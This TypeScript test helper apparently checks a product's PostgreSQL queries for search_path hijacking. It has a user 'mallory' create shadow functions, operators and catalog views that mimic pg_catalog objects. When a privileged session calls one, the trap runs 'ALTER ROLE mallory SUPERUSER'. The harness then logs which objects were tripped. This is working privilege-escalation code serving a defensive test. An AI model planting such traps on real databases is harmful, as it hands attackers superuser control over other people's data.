import type { PrivateServer } from '../support/postgres';

/** Who may sign in and make objects, and is after more. */
export const MALLORY = { user: 'mallory', password: 'mallory' } as const;

/**
 * Objects with the names and types of what the product's SQL calls. Each gives the right answer, so that the work goes
 * on, and trips on the way.
 */
const SHADOWS: readonly ((schema: string) => string)[] = [
  ...operators('||', 'pg_catalog.concat', 'text', [
    ['oid', 'text'],
    ['name', 'text'],
    ['text', 'text'],
    ['smallint', 'text'],
  ]),
  ...operators('=', 'pg_catalog.oideq', 'boolean', [['oid', 'oid']]),
  ...operators('=', 'pg_catalog.nameeq', 'boolean', [['name', 'name']]),
  ...operators('=', 'pg_catalog.nameeqtext', 'boolean', [['name', 'text']]),
  ...operators('<>', 'pg_catalog.oidne', 'boolean', [['oid', 'oid']]),
  routine('shobj_description', ['oid', 'text'], 'text'),
  routine('quote_ident', ['name'], 'text', 'pg_catalog.quote_ident($1::pg_catalog.text)'),
  routine('quote_ident', ['text'], 'text'),
  routine('has_schema_privilege', ['text', 'oid', 'text'], 'boolean', '$1 <> $3'),
  routine('has_database_privilege', ['text', 'oid', 'text'], 'boolean', '$1 <> $3'),
  routine('has_database_privilege', ['oid', 'oid', 'text'], 'boolean'),
  routine('has_column_privilege', ['text', 'text', 'text'], 'boolean'),
  routine('pg_has_role', ['oid', 'oid', 'text'], 'boolean'),
  routine('current_database', [], 'name'),
  routine('current_setting', ['text'], 'text'),
  routine('set_config', ['text', 'text', 'boolean'], 'text'),
  routine('pg_is_in_recovery', [], 'boolean'),
  routine('pg_backend_pid', [], 'integer'),
  routine('pg_advisory_xact_lock', ['integer', 'integer'], 'void'),
  routine('lower', ['text'], 'text'),
  relation('pg_roles'),
  relation('pg_database'),
  relation('pg_namespace'),
  relation('pg_proc'),
  relation('pg_shdepend'),
  relation('pg_auth_members'),
];

/** Mallory makes every shadow in the schemas of one database; whatever is tripped tries to make a superuser of her. */
export async function layTraps(server: PrivateServer, database: string, schemas: readonly string[]): Promise<void> {
  for (const schema of schemas) {
    const statements = [
      `CREATE SCHEMA IF NOT EXISTS ${schema}`,
      `GRANT ALL ON SCHEMA ${schema} TO PUBLIC`,
      trip(schema),
      ...SHADOWS.map((shadow) => shadow(schema)),
    ];
    for (const sql of statements) await server.query(sql, { ...MALLORY, database });
  }
}

/** What was tripped, from the server's log: the only place where a read-only transaction leaves a trace. */
export function tripped(log: string): string[] {
  return [...new Set([...log.matchAll(/LOG: {2}tripped by (.+)$/gm)].map(([, what]) => String(what)))];
}

function trip(schema: string): string {
  return `
    CREATE FUNCTION ${schema}.trip(what text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $$
    DECLARE seen text := coalesce(current_setting('trip.seen', true), '');
    BEGIN
      -- Once for each, or the first failure would take minutes to tell.
      IF session_user = '${MALLORY.user}' OR strpos(seen, what) > 0 THEN RETURN true; END IF;
      PERFORM set_config('trip.seen', seen || what, false);
      RAISE LOG 'tripped by %', what;
      BEGIN
        EXECUTE 'ALTER ROLE ${MALLORY.user} SUPERUSER';
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
      RETURN true;
    END $$`;
}

function routine(name: string, types: readonly string[], returns: string, answer?: string) {
  const call = `pg_catalog.${name}(${types.map((_, index) => `$${index + 1}`).join(', ')})`;
  return (schema: string) => shadow(schema, name, types, returns, answer ?? call);
}

function operators(name: string, means: string, returns: string, pairs: readonly (readonly [string, string])[]) {
  return pairs.flatMap(([left, right]) => {
    const behind = `op_${means.replace('pg_catalog.', '')}`;
    return [
      (schema: string) => shadow(schema, behind, [left, right], returns, `${means}($1, $2)`),
      (schema: string) =>
        `CREATE OPERATOR ${schema}.${name} (FUNCTION = ${schema}.${behind}, LEFTARG = ${left}, RIGHTARG = ${right})`,
    ];
  });
}

function relation(name: string) {
  return (schema: string) =>
    `CREATE VIEW ${schema}.${name} AS SELECT x.* FROM pg_catalog.${name} x WHERE ${schema}.trip('${schema}.${name}')`;
}

function shadow(schema: string, name: string, types: readonly string[], returns: string, answer: string): string {
  const label = `${schema}.${name}(${types.join(', ')})`;
  const result = returns === 'void' ? `PERFORM ${answer}; RETURN` : `RETURN ${answer}`;
  return `
    CREATE FUNCTION ${schema}.${name}(${types.join(', ')}) RETURNS ${returns}
    LANGUAGE plpgsql SET search_path = pg_catalog AS $$
    BEGIN PERFORM ${schema}.trip('${label}'); ${result}; END $$`;
}
